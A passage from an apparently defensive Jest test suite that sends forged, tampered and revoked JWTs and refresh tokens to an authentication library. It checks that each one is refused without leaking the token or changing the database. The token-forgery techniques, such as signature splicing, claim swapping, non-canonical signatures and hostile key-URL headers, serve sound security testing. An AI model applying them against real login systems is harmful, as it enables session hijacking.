  { name: 'a JWE-shaped five-segment token', expect: 'invalid_token', build: () => ({ token: [segment({ alg: 'dir', enc: 'A256GCM' }), '', b64url('iviviviviviv'), b64url(CANARY), b64url('tagtagtagtagtagt')].join('.') }) },
  {
    name: 'the signature of another token (the other user\'s)',
    expect: 'invalid_token',
    build: (c) => ({ token: `${c.victim.accessToken.slice(0, c.victim.accessToken.lastIndexOf('.'))}.${c.other.accessToken.split('.')[2]}` }),
  },
  {
    name: 'payload tampered (sub changed) under the original header and signature',
    expect: 'invalid_token',
    build: (c) => {
      const [h, p, s] = c.victim.accessToken.split('.');
      const claims = JSON.parse(Buffer.from(p, 'base64url').toString());
      return { token: `${h}.${segment({ ...claims, sub: String(c.other.id), sid: c.other.sid })}.${s}` };
    },
  },
  {
    name: 'header not JSON',
    expect: 'invalid_token',
    build: (c) => {
      const [, p, s] = c.victim.accessToken.split('.');
      return { token: `${b64url(`alg=HS256;${CANARY}`)}.${p}.${s}` };
    },
  },
  { name: 'header a JSON array', expect: 'invalid_token', build: (c) => ({ token: jws([HS], claimsOf(c.victim), appSecret) }) },
  {
    name: 'the real token with a non-canonical signature encoding (unused trailing bits set)',
    expect: 'invalid_token',
    build: (c) => ({ token: nonCanonicalSignature(c.victim.accessToken) }),
  },

  // Revocation (the point of the library)
  {
    name: 'a token of a deleted user',
    expect: 'invalid_token',
    build: async (c) => {
      const user = await victimOf(c.hs);
      await c.dataSource.query(`DELETE FROM jwt_sessions WHERE user_id = '${Number(user.id)}'`);
      await c.dataSource.query(`DELETE FROM users WHERE id = ${Number(user.id)}`);
      return { token: user.accessToken };
    },
  },
  {
    name: 'a token revoked by logout-all',
    expect: 'invalid_token',
    build: async (c) => {
      const user = await victimOf(c.hs);
      await c.hs.http().get('/me').set(bearer(user.accessToken)).expect(200); // cached first, then revoked
      await c.hs.http().post('/auth/logout-all').set(bearer(user.accessToken)).expect(204);
      return { token: user.accessToken };
    },
  },
  {
    name: 'a token whose session ended by logout',
    expect: 'invalid_token',
    build: async (c) => {
      const user = await victimOf(c.hs);
      await c.hs.http().get('/me').set(bearer(user.accessToken)).expect(200);
      await c.hs.http().post('/auth/logout').set(bearer(user.accessToken)).expect(204);
      return { token: user.accessToken };
    },
  },
  {
    name: 'a token whose session was revoked from another device',
    expect: 'invalid_token',
    build: async (c) => {
      const user = await victimOf(c.hs);
      const second = (await c.hs.http().post('/auth/login').send({ email: user.email, password: 'correct horse battery' }).expect(200)).body.accessToken;
      await c.hs.http().delete(`/auth/sessions/${user.sid}`).set(bearer(second)).expect(204);
      return { token: user.accessToken };
    },
  },
  {
    name: 'a token whose session family was revoked by refresh-token reuse',
    expect: 'invalid_token',
    build: async (c) => {
      const user = await victimOf(c.hs);
      const rotated = await c.hs.http().post('/auth/refresh').send({ refreshToken: user.refreshToken }).expect(200);
      await c.hs.http().post('/auth/refresh').send({ refreshToken: user.refreshToken }).expect(401);
      return { token: rotated.body.accessToken };
    },
  },
];

/** Flips the unused low bits of the last signature character: same bytes, different string. */
function nonCanonicalSignature(token: string): string {
  const dot = token.lastIndexOf('.');
  const signature = token.slice(dot + 1);
  const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
  const unusedBits = (signature.length * 6) % 8; // 43 chars for 32 bytes: 2 unused bits
  const last = alphabet.indexOf(signature[signature.length - 1]);
  const flipped = alphabet[last ^ ((1 << unusedBits) - 1)];
  return `${token.slice(0, dot + 1)}${signature.slice(0, -1)}${flipped}`;
}

// ---------- the refresh endpoint ----------

interface RefreshCase {
  name: string;
  refreshToken: (ctx: Context) => string;
}

const refreshCases: RefreshCase[] = [
  { name: 'an access token sent to /auth/refresh', refreshToken: (c) => c.victim.accessToken },
  { name: 'a made-up refresh token in the right shape', refreshToken: (c) => `rt.${c.victim.sid}.0.${b64url(Buffer.alloc(32))}.${b64url(Buffer.alloc(16))}` },
  { name: 'the victim\'s refresh token with a forged generation', refreshToken: (c) => c.victim.refreshToken.replace(/^rt\.([^.]+)\.0\./, 'rt.$1.7.') },
];

// ---------- plumbing ----------

const ROUTES_REFUSED: Array<['get' | 'post', string]> = [
  ['get', '/me'],
  ['post', '/auth/logout-all'],
  ['post', '/auth/logout'],
];

async function snapshot(dataSource: DataSource): Promise<unknown> {
  return {
    users: await dataSource.query('SELECT id, email, password_hash, token_version FROM users ORDER BY id'),
    sessions: await dataSource.query(
      'SELECT id, user_id, family, refresh_hash, previous_refresh_hash, generation, last_used_at, rotated_at, idle_expires_at, revoked_at, revoke_reason FROM jwt_sessions ORDER BY id',
    ),
  };
}

function send(t: TestApp, method: 'get' | 'post', path: string, attack: AttackRequest) {
  let req = t.http()[method](attack.query ? `${path}?${attack.query}` : path);
  if (attack.authorization !== undefined) req = req.set('Authorization', attack.authorization as string);
  else if (attack.token !== undefined) req = req.set(bearer(attack.token));
  if (attack.form !== undefined) req = req.type('form').send(attack.form);
  return req;
}

/** Strings no response body may contain: the token, its parts, the canary and the case's secrets. */
function forbiddenEchoes(attack: AttackRequest): string[] {
  const values = [CANARY, ...(attack.secrets ?? [])];
  for (const header of [attack.token, ...[attack.authorization ?? []].flat()]) {
    if (!header) continue;
    const token = header.replace(/^\S+ /, '');
    values.push(token, ...token.split(/[.\s,]/));
  }
  return values.filter((value) => value.length >= 8);
}

function withKeyServer(): Promise<{ server: Server; url: string; hits: () => number }> {
  let hits = 0;
  const server = createServer((_req, res) => {
    hits++;
    res.setHeader('Content-Type', 'application/json');
    res.end(JSON.stringify({ keys: [{ ...attackerRsa.publicKey.export({ format: 'jwk' }), kid: 'rs-1', alg: 'RS256', use: 'sig' }] }));
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => resolve({ server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, hits: () => hits })),
  );
}

// Token checks do not depend on the HTTP platform and header parsing does not depend on the
// database: every database over Express, and SQLite over Fastify too, keeps the run under a minute.
const matrix = testMatrix().filter(({ database, adapter }) => adapter === 'express' || database.name === 'sqlite');

describe.each(matrix)('adversarial tokens on $label', ({ database, adapter }) => {
  const ctx = {} as Context;
  let drop: () => Promise<void>;
  let keyServer: Server;

  beforeAll(async () => {
    const created = await database.create();
    drop = created.drop;
    ctx.hs = await startApp(created.url, { httpAdapter: adapter });
    // The demo app again, on the same database, with several keys: RS256 signs, ES256 and EdDSA
    // only verify, and no clock tolerance.
    ctx.multi = await startApp(created.url, {
      httpAdapter: adapter,
      revocationOptions: {
        secret: undefined,
        keys: [
          { kid: 'rs-1', algorithm: 'RS256', privateKey: appRsa.privateKey },
          { kid: 'es-1', algorithm: 'ES256', publicKey: appEc.publicKey },
          { kid: 'ed-1', algorithm: 'EdDSA', publicKey: appEd.publicKey },
        ],
        signingKeyId: 'rs-1',
        refreshTokenSecret: 'adversarial-refresh-token-secret-0123456789',
        clockTolerance: 0,
      },
    });
    ctx.dataSource = ctx.hs.app.get(DataSource);
    ctx.victim = await victimOf(ctx.hs);
    ctx.other = await victimOf(ctx.hs);
    ctx.multiVictim = await victimOf(ctx.multi);
    const served = await withKeyServer();
    keyServer = served.server;
    ctx.keyServerUrl = served.url;
    ctx.keyServerHits = served.hits;
  });

  afterAll(async () => {
    await ctx.multi?.close();
    await ctx.hs?.close();
    await new Promise((resolve) => keyServer?.close(resolve));
    await drop?.();
  });

  afterEach(async () => {
    // Whatever a case did, the long-lived users stay signed in and the key server untouched. A
    // user a case managed to sign out is replaced, so one failure does not cascade to the next cases.
    expect(ctx.keyServerHits()).toBe(0);
    const damaged: string[] = [];
    for (const [name, t] of [['victim', ctx.hs], ['other', ctx.hs], ['multiVictim', ctx.multi]] as const) {
      if ((await t.http().get('/me').set(bearer(ctx[name].accessToken))).status !== 200) {
        damaged.push(name);
        ctx[name] = await victimOf(t);
      }
    }
    expect(damaged).toEqual([]);
  });

  it.each(cases)('$name', async (attack) => {
    const request = await attack.build(ctx);
    const t = request.app === 'multi' ? ctx.multi : ctx.hs;
    const routes: Array<['get' | 'post', string]> = attack.expect === 'ok' ? [['get', '/me']] : ROUTES_REFUSED;
    const echoes = forbiddenEchoes(request);
    const before = await snapshot(ctx.dataSource);
    const sendAll = async () => {
      const clock = request.clock !== undefined ? jest.spyOn(Date, 'now').mockReturnValue(request.clock) : undefined;
      const answers = [];
      try {
        for (const [method, path] of routes) {
          const res = await send(t, method, path, request);
          answers.push({ route: `${method.toUpperCase()} ${path}`, res });
        }
      } finally {
        clock?.mockRestore();
      }
      return answers;
    };
    const judge = (answers: Awaited<ReturnType<typeof sendAll>>, pass: string) => {
      for (const { route, res } of answers) {
        expect(res.status).toBeLessThan(500);
        if (attack.expect === 'ok') {
          expect({ pass, route, status: res.status }).toEqual({ pass, route, status: 200 });
        } else {
          const expected = EXPECTED[attack.expect];
          expect({ pass, route, status: res.status, challenge: res.headers['www-authenticate'], body: res.body }).toEqual({
            pass,
            route,
            status: expected.status,
            challenge: expected.challenge,
            body: expected.body,
          });
        }
        for (const echo of echoes) expect(res.text).not.toContain(echo);
      }
    };
    judge(await sendAll(), 'first');
    // Second pass against a warm verified-token memo: every legitimate token of both apps has just
    // been verified (and memoized), and the attack was sent once already; a token one byte away from
    // a memoized one, or one refused before, must still get exactly the same answer.
    for (const [name, app] of [['victim', ctx.hs], ['other', ctx.hs], ['multiVictim', ctx.multi]] as const) {
      await app.http().get('/me').set(bearer(ctx[name].accessToken));
    }
    judge(await sendAll(), 'warm memo');
    expect(await snapshot(ctx.dataSource)).toEqual(before);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it.each(refreshCases)('/auth/refresh refuses $name without revoking anything', async ({ refreshToken }) => {
    const token = refreshToken(ctx);
    const before = await snapshot(ctx.dataSource);
    const res = await ctx.hs.http().post('/auth/refresh').send({ refreshToken: token });
    expect(res.status).toBeLessThan(500);
    expect(res.body).toEqual({ statusCode: res.status, error: 'invalid_grant', message: 'The refresh token is invalid, expired or revoked' });
    // RFC 6749 §5.2 answers invalid_grant with 400; a 401 must carry a challenge (RFC 9110 §11.6.1, §15.5.2).
    expect({ status: res.status, challenge: res.headers['www-authenticate'] }).toEqual(
      res.status === 400 ? { status: 400, challenge: undefined } : { status: 401, challenge: expect.stringMatching(/^Bearer\b/) },
    );
    for (const part of [token, ...token.split('.')].filter((p) => p.length >= 8)) expect(res.text).not.toContain(part);
    expect(await snapshot(ctx.dataSource)).toEqual(before);
  });

  it('POST /auth/logout with a valid token that has no session (AuthTokenService.issueAccessToken) never answers 5xx', async () => {
    const user = await victimOf(ctx.hs);
    const token = await ctx.hs.app.get(AuthTokenService).issueAccessToken(user.id);
    const before = await snapshot(ctx.dataSource);
    await ctx.hs.http().get('/me').set(bearer(token)).expect(200);
    const res = await ctx.hs.http().post('/auth/logout').set(bearer(token));
    expect(res.status).toBeLessThan(500);
    expect(res.text).not.toContain(token.split('.')[2]);
    expect(await snapshot(ctx.dataSource)).toEqual(before);
  });

  it('never fetched a jku or x5u URL', () => {
    expect(ctx.keyServerHits()).toBe(0);
  });
});
